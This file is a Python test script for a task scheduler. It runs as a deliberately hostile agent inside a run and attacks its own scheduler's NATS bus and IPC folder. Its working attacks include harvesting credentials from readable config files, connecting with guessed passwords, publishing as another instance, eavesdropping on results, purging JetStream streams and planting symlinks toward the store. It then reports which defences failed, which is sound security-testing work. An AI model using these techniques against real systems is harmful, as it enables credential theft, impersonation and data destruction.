"""A hostile agent: run it as a run's agent command and it tries every bus and IPC-folder
attack of issue 9 from inside the run, then writes what succeeded.

    sympozium-schedule run --agent-command "python tests/selfsched/hostile_agent.py"

It uses only what an agent is given (its environment, its IPC folder) and what it can
find on the machine (the scheduler's command line in /proc, its bus's listening port,
files it can read). It attacks only its own scheduler's bus, never another server on
the machine. Report: ``$IPC_PATH/output/hostile-report.json`` (and the usual
``output/result.json``), ``{"attacks": {name: {"succeeded": bool, "detail": str}},
"legitimate": {...}}``. ``succeeded`` means the defence failed.

Attacks on the bus: the bus URL or a credential in the environment; a credential in
files it can read (the data directory's NATS config); connecting to any listening
loopback port anonymously or with guessed credentials, and with such a connection
publishing as another instance, reading answers and using the JetStream API.
Attacks on the folder: a request that is a symlink to the store; symlinks planted at
the answer's name, at the old predictable temporary name and as ``.sent``; a request
claiming another identity in its body. Legitimate: one create through schedule_task,
which must be accepted.

Options (environment, all optional): HOSTILE_VICTIM (instance to impersonate, default
``bob``), HOSTILE_WAIT (seconds to wait for answers, default 10).
"""

from __future__ import annotations

import asyncio
import contextlib
import hashlib
import itertools
import json
import os
import re
import socket
import sys
import time
from pathlib import Path
from typing import Any

IPC = Path(os.environ.get("IPC_PATH", "/ipc"))
INSTANCE = os.environ.get("INSTANCE_NAME", "")
RUN = os.environ.get("AGENT_RUN_ID", "")
NAMESPACE = os.environ.get("AGENT_NAMESPACE", "default")
VICTIM = os.environ.get("HOSTILE_VICTIM", "bob")
WAIT = float(os.environ.get("HOSTILE_WAIT", "10"))
HOURLY = {"schedule": "@hourly", "task": "planted by a hostile agent"}

report: dict[str, dict[str, Any]] = {"attacks": {}, "legitimate": {}, "found": {}}


def record(name: str, succeeded: bool, detail: str) -> None:
    report["attacks"][name] = {"succeeded": succeeded, "detail": detail[:500]}


# --- reconnaissance ---------------------------------------------------------------------------


def data_dirs() -> list[Path]:
    """Where the scheduler keeps its files: its command line (--data-dir), the
    environment, and the run folder's ancestors (runs live under <data-dir>/runs)."""
    found: list[Path] = []
    with contextlib.suppress(OSError):
        args = Path(f"/proc/{os.getppid()}/cmdline").read_bytes().split(b"\0")
        for flag, value in itertools.pairwise(args):
            if flag == b"--data-dir":
                found.append(Path(value.decode()))
    if os.environ.get("SYMPOZIUM_DATA_DIR"):
        found.append(Path(os.environ["SYMPOZIUM_DATA_DIR"]))
    for parent in IPC.resolve().parents:
        if (parent / "store.db").exists() or parent.name == "runs":
            found.append(parent if parent.name != "runs" else parent.parent)
    return list(dict.fromkeys(found))


def listening_ports(dirs: list[Path]) -> list[int]:
    """The ports its own scheduler's bus listens on: those named in a readable
    ``nats.url``, and the listening sockets of the nats-server whose command line names
    the data directory (its open sockets matched to /proc/net/tcp). Only its own:
    running this script must never touch other servers on the machine."""
    ports: set[int] = set()
    for directory in dirs:
        with contextlib.suppress(OSError, ValueError):
            ports.add(int((directory / "nats.url").read_text().strip().rsplit(":", 1)[1]))
    for port in re.findall(r"nats://127\.0\.0\.1:([0-9]+)", _task()):
        ports.add(int(port))  # a hint in the task: what a scan of loopback would find
    inodes: set[str] = set()
    try:
        processes = list(Path("/proc").iterdir())
    except OSError:  # the sandbox hides /proc
        processes = []
    for proc in processes:
        with contextlib.suppress(OSError):
            cmdline = (proc / "cmdline").read_bytes()
            if b"nats-server" not in cmdline or not any(str(d).encode() in cmdline for d in dirs):
                continue
            for fd in (proc / "fd").iterdir():
                with contextlib.suppress(OSError):
                    target = os.readlink(fd)
                    if target.startswith("socket:["):
                        inodes.add(target[8:-1])
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        with contextlib.suppress(OSError):
            for line in Path(table).read_text().splitlines()[1:]:
                fields = line.split()
                if len(fields) > 9 and fields[3] == "0A" and fields[9] in inodes:  # LISTEN
                    ports.add(int(fields[1].rsplit(":", 1)[1], 16))
    return sorted(ports)


def _task() -> str:
    with contextlib.suppress(OSError, ValueError, AttributeError):
        return str(json.loads((IPC / "input" / "task.json").read_text()).get("task", ""))
    return os.environ.get("TASK", "")


def nats_ports(candidates: list[int]) -> list[int]:
    """Ports that greet like a NATS server (INFO {...})."""
    found = []
    for port in candidates:
        with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), 0.3) as s:
            s.settimeout(0.3)
            if s.recv(7) == b"INFO {\"":
                found.append(port)
    return found


def secrets_in(dirs: list[Path]) -> dict[str, str]:
    """Anything that looks like a credential in files the agent can read."""
    found: dict[str, str] = {}
    for directory in dirs:
        for name in ("nats.url", "nats-server.conf", "nats-auth.json", "nats.creds"):
            with contextlib.suppress(OSError):
                text = (directory / name).read_text()
                found[str(directory / name)] = text
    return found


# --- the bus ----------------------------------------------------------------------------------


async def try_connect(url: str, **options: Any) -> Any:
    import nats

    with contextlib.suppress(Exception):
        return await nats.connect(url, allow_reconnect=False, connect_timeout=1, **options)
    return None


async def bus_attacks(ports: list[int], files: dict[str, str]) -> None:
    env_bus = {k: v for k, v in os.environ.items()
               if k in ("EVENT_BUS_URL", "NATS_URL") or "NATS" in k or "TOKEN" in k}
    record("bus-url-or-credential-in-environment", bool(env_bus), f"{sorted(env_bus)}")

    secret_patterns = re.compile(r"(password|token|seed|SU[A-Z0-9]{50,}|SA[A-Z0-9]{50,})", re.I)
    leaked = {path: bool(secret_patterns.search(text)) for path, text in files.items()}
    record("credential-in-readable-files", any(leaked.values()),
           f"readable: {sorted(files)}; with a secret: {[p for p, s in leaked.items() if s]}")

    urls = [f"nats://127.0.0.1:{port}" for port in ports]
    seeds = [m.group(0) for text in files.values() for m in re.finditer(r"SU[A-Z0-9]{50,}", text)]
    guesses: list[dict[str, Any]] = [
        {}, {"token": "secret"}, {"user": "admin", "password": "admin"},
        {"user": "sympozium-schedule-router", "password": ""},
        *({"nkeys_seed_str": seed} for seed in seeds)]
    connected = []
    for url in urls:
        for guess in guesses:
            nc = await try_connect(url, **guess)
            if nc is not None:
                connected.append((url, guess, nc))
    record("connect-without-a-credential", bool(connected),
           f"nats ports {ports}; connected with: {[list(g) for _, g, _ in connected]}")

    for url, _, nc in connected:
        await abuse(nc, url)
        with contextlib.suppress(Exception):
            await nc.close()


async def abuse(nc: Any, url: str) -> None:
    """What a connection could do, if one was had."""
    victim_subject = f"sympozium.schedule.request.{NAMESPACE}.{VICTIM}.{VICTIM}-run-x"
    body = {"topic": "schedule.upsert", "metadata": {
        "agentRunID": f"{VICTIM}-run-x", "instanceName": VICTIM, "namespace": NAMESPACE,
        "requestId": "hostile-1", "requestFile": "x.json"},
        "data": {"name": "planted-by-hostile", "action": "create", **HOURLY}}
    js = nc.jetstream(timeout=1.0)
    outcomes = []
    for subject in (victim_subject, "sympozium.schedule.upsert"):  # scoped, and the old subject
        try:
            ack = await js.publish(subject, json.dumps(body).encode())
            outcomes.append(f"{subject}: stored in {ack.stream}")
        except Exception as exc:
            outcomes.append(f"{subject}: {type(exc).__name__}")
    record("publish-as-another-instance", any("stored" in o for o in outcomes), f"{url}: {outcomes}")
    heard: list[bytes] = []

    async def listen(msg: Any) -> None:
        heard.append(msg.data)

    with contextlib.suppress(Exception):
        await nc.subscribe("sympozium.schedule.result.>", cb=listen)
        await nc.flush()
    await asyncio.sleep(1.0)
    record("read-other-agents-answers", bool(heard), f"{url}: {len(heard)} messages")
    stream, durable = "SYMPOZIUM_SCHEDULE_REQUESTS", "sympozium-schedule-router"
    for name, call in (("jetstream-delete-consumer", lambda: js.delete_consumer(stream, durable)),
                       ("jetstream-purge-stream", lambda: js.purge_stream(stream))):
        try:
            await call()
            record(name, True, url)
        except Exception as exc:
            record(name, False, f"{url}: {type(exc).__name__}")


# --- the folder -------------------------------------------------------------------------------


def folder_attacks(dirs: list[Path]) -> list[tuple[str, Path]]:
    """Plant links and requests; returns (attack, request file) pairs to check later."""
    schedules = IPC / "schedules"
    schedules.mkdir(parents=True, exist_ok=True)
    store = next((d / "store.db" for d in dirs if (d / "store.db").exists()), None)
    target = store or Path("/etc/hostname")
    planted: list[tuple[str, Path]] = []

    link = schedules / "schedule-symlink.json"
    with contextlib.suppress(OSError):
        link.symlink_to(target)
        planted.append(("request-symlink-to-the-store", link))

    answer_link = schedules / "schedule-answer-link.result.json"
    with contextlib.suppress(OSError):
        answer_link.symlink_to(target)
    tmp_name = f".{hashlib.sha256(answer_link.name.encode()).hexdigest()[:16]}.result.tmp"
    with contextlib.suppress(OSError):
        (schedules / tmp_name).symlink_to(target)
    request = schedules / "schedule-answer-link.json"
    request.write_text(json.dumps({"name": "answer-link", "action": "create", **HOURLY}))
    planted.append(("answer-written-through-a-planted-symlink", request))

    sent = schedules / ".sent"
    with contextlib.suppress(OSError):
        if sent.is_dir() and not sent.is_symlink():
            for entry in sent.iterdir():
                entry.unlink()
            sent.rmdir()
        sent.symlink_to(target.parent)

    spoof = schedules / "schedule-spoof.json"
    spoof.write_text(json.dumps({"name": "planted-by-hostile", "action": "create",
                                 "instanceRef": VICTIM, **HOURLY}))
    planted.append(("identity-claimed-in-the-request-body", spoof))
    return planted


def read_answer(request: Path) -> dict[str, Any] | None:
    result = request.with_name(request.name.removesuffix(".json") + ".result.json")
    with contextlib.suppress(OSError, ValueError):
        if not result.is_symlink():
            loaded = json.loads(result.read_text())
            return loaded if isinstance(loaded, dict) else None
    return None


def judge_folder(planted: list[tuple[str, Path]], dirs: list[Path], before: dict[str, bytes]) -> None:
    deadline = time.monotonic() + WAIT
    answers: dict[str, dict[str, Any] | None] = {}
    while time.monotonic() < deadline:
        answers = {name: read_answer(path) for name, path in planted}
        if all(answers.values()):
            break
        time.sleep(0.1)
    for name, answer in answers.items():
        text = json.dumps(answer)
        if name == "request-symlink-to-the-store":
            record(name, answer is None or answer.get("status") != "rejected"
                   or "SQLite" in text, text)
        elif name == "identity-claimed-in-the-request-body":
            record(name, answer is None or answer.get("status") == "accepted", text)
        else:
            record(name, answer is None, text)
    changed = [p for p, data in before.items() if _read(Path(p)) != data]
    record("files-outside-the-folder-changed", bool(changed), f"{changed}")
    sent = IPC / "schedules" / ".sent"
    record("archive-followed-a-symlinked-.sent", sent.is_symlink(),
           f".sent is a symlink: {sent.is_symlink()}")


def _read(path: Path) -> bytes | None:
    with contextlib.suppress(OSError):
        return path.read_bytes()
    return None


def legitimate() -> None:
    try:
        from sympozium_schedule.agents.schedule_task import schedule_task

        answer = schedule_task(name="legit", action="create", schedule="@hourly",
                               task="a legitimate follow-up", ipc_path=IPC, wait=WAIT)
    except Exception as exc:
        answer = {"status": "error", "message": repr(exc)}
    report["legitimate"]["own-create"] = answer


def main() -> int:
    dirs = data_dirs()
    ports = nats_ports(listening_ports(dirs))
    files = secrets_in(dirs)
    # The store changes as it should (its own requests); these must not change at all.
    watched = [d / "nats-server.conf" for d in dirs] + [Path("/etc/hostname")]
    before = {str(p): data for p in watched if (data := _read(p)) is not None}
    report["found"] = {"data_dirs": [str(d) for d in dirs], "nats_ports": ports, "readable": sorted(files)}
    planted = folder_attacks(dirs)
    with contextlib.suppress(ImportError):
        asyncio.run(bus_attacks(ports, files))
    judge_folder(planted, dirs, before)
    legitimate()
    succeeded = sorted(n for n, a in report["attacks"].items() if a["succeeded"])
    out = IPC / "output"
    out.mkdir(parents=True, exist_ok=True)
    (out / "hostile-report.json").write_text(json.dumps(report, indent=2))
    response = f"hostile agent: {len(report['attacks'])} attacks, succeeded: {succeeded or 'none'}"
    (out / "result.json").write_text(json.dumps({"status": "success", "response": response}))
    print(response)
    return 0


if __name__ == "__main__":
    sys.exit(main())
